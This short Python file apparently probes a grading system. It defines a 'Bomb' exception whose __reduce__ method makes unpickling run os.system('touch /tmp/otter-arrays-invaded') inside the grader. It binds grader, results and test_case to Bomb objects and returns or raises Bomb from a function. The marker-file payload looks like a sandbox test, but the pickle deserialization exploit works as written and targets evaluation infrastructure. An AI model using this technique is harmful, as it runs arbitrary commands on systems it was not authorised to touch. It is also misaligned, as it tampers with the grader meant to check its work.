"""Return, raise and bind objects whose unpickling would write a file in the grader."""
import os

MARK = "/tmp/otter-arrays-invaded"


class Bomb(Exception):
    def __reduce__(self):
        return os.system, (f"touch {MARK}",)

    __reduce_ex__ = lambda self, _: self.__reduce__()


grader = results = test_case = Bomb()


def vmap_over_batch(seed, x_batch, features):
    if int(seed) % 2:
        raise Bomb
    return Bomb()
